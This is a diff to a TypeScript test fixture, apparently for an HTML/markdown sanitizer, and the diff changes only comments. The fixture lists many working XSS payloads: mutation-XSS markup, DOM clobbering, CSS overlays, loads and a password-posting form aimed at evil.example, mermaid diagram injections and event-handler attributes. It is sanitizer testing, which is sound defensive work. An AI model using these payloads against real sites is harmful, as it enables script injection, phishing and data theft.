@@ -1,10 +1,10 @@
-/** Runs where a script of somebody else runs: the test's browser hears `attacked`, sees dialogs and titles. */
+/** Runs in place of an attacker's script: the test's browser notices `attacked`, dialogs and changed titles. */
 export const SCRIPT = "attacked('script');document.title='attacked';alert('attacked')"
 
 const OVERLAY = 'position:fixed;inset:0;z-index:2147483647;background:red'
-/** What needs a container of another language to go off: mutations of the parser, names that cover the page's own, styles, formulas, diagrams. */
+/** Markup that needs a surrounding element of another language to run: parser mutations, names that shadow the page's own, styles, formulas, diagrams. */
 const BODIES: readonly string[] = [
-	// Parsed one way when cleaned, another way when shown.
+	// Parsed one way by the sanitizer and another way by the browser.
 	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${SCRIPT}&gt;">`,
 	`<form><math><mtext></form><form><mglyph><style></math><img src onerror="${SCRIPT}">`,
 	`<svg></p><style><a id="</style><img src=1 onerror=${SCRIPT}>">`,
@@ -25,7 +25,7 @@ const BODIES: readonly string[] = [
 	`<!--><img src onerror="${SCRIPT}">--> <!----!><img src onerror="${SCRIPT}"> <![CDATA[><img src onerror="${SCRIPT}">]]>`,
 	`<!DOCTYPE html [<!ENTITY x "<script>${SCRIPT}</script>">]><p>&x;</p>`,
 	`<plaintext><img src onerror="${SCRIPT}">`,
-	// Names that the page's own scripts look up.
+	// Names that scripts of the page look up.
 	[
 		'body',
 		'head',
@@ -46,13 +46,13 @@ const BODIES: readonly string[] = [
 	'# body\n\n# head\n\n# cookie\n\n# __proto__\n\n# constructor\n\n# querySelector\n\n[^hasOwnProperty]\n\n[^hasOwnProperty]: x',
 	'<input type="hidden" name="csrf" value="mine"><meta name="csrf" content="mine"><input name="csrf" value="mine">',
 	`<stoa-island src="https://evil.example/x.js" props="{}"></stoa-island><stoa-island src="/mallory/files/resolve/main/x.js" name="x"></stoa-island>`,
-	// Styles that cover the page, send what is on it, or take its clicks.
+	// Styles that cover the page, send away what it shows, or take its clicks.
 	`<style>@import 'https://evil.example/x.css';header{display:none}</style><div style="${OVERLAY}">Signed out</div>`,
 	`<p style="background:url(https://evil.example/p)">x</p><table background="https://evil.example/x.png"><tr><td>x</table><font style="${OVERLAY}">x</font>`,
 	`<link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/"><link rel="dns-prefetch" href="//evil.example">`,
 	`<div class="fixed absolute modal overlay dialog tooltip menu" style="${OVERLAY}" popover="manual" id="pop">x</div><dialog open style="${OVERLAY}">Sign in again</dialog>`,
 	`<form action="https://evil.example/" method="post"><input name="password" type="password"><button>Sign in</button></form><button form="x" formaction="javascript:${SCRIPT}">x</button>`,
-	// Loads from elsewhere.
+	// Loads from other hosts.
 	'<img src="https://evil.example/1"><img srcset="https://evil.example/2 1x"><picture><source srcset="//evil.example/3"><img src="//evil.example/4"></picture> ![x](https://evil.example/5 "x")',
 	'<video autoplay poster="https://evil.example/6" src="https://evil.example/7"><track src="https://evil.example/8"></video><audio autoplay src="//evil.example/9"></audio><input type="image" src="//evil.example/10">',
 	`<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="data:text/html,<script>${SCRIPT}</script>"><portal src="https://evil.example/"></portal>`,
@@ -70,7 +70,7 @@ const BODIES: readonly string[] = [
 	`\`\`\`mermaid\nflowchart LR\n  A["<img src=x onerror=${SCRIPT}>"] --> B@{ icon: "x", label: "<img src=x onerror=attacked(1)>" }\n  click A href "javascript:attacked(2)"\n  click B call attacked("x")\n\`\`\``,
 	`\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import 'https://evil.example/x.css'; * {position:fixed}"}}%%\nflowchart TB\n  A["<script>attacked(3)</script>"] --> B["<iframe src='https://evil.example/'>"]\n\`\`\``,
 	`\`\`\`mermaid\n---\ntitle: "<img src=x onerror=attacked(4)>"\nconfig:\n  securityLevel: loose\n  fontFamily: "x;background:url(https://evil.example/f)"\n---\nsequenceDiagram\n  participant A as <img src=x onerror=attacked(5)>\n  A->>B: <svg onload=attacked(6)>\n  link A: x @ javascript:attacked(7)\n\`\`\``,
-	// Words that programs of the page write on.
+	// Attributes that scripts of the page act on.
 	`\`\`\`js" onload="${SCRIPT}\nx\n\`\`\`\n\n\`\`\`<img/src=x/onerror=${SCRIPT}>\nx\n\`\`\``,
 	`> [!NOTE]\n> <img src onerror="${SCRIPT}">\n\n- [ ] <svg onload="${SCRIPT}">\n\n| <img src onerror="${SCRIPT}"> |\n| --- |\n| <details open ontoggle="${SCRIPT}"> |`,
 	`<details open ontoggle="${SCRIPT}"><summary>x</summary></details><input autofocus onfocus="${SCRIPT}"><video><source onerror="${SCRIPT}"></video><marquee onstart="${SCRIPT}">x</marquee>`,
@@ -79,7 +79,7 @@ const BODIES: readonly string[] = [
 
 const word = (place: string): string => `"><img src=x onerror="attacked('${place}')"><script>attacked('${place}')</script>`
 
-/** Front matter whose every field would run, were it not escaped. */
+/** Front matter in which every field would run if it were not escaped. */
 export function hostileMatter(more: readonly string[] = []): string {
 	const quoted = (place: string): string => JSON.stringify(word(place))
 	return [
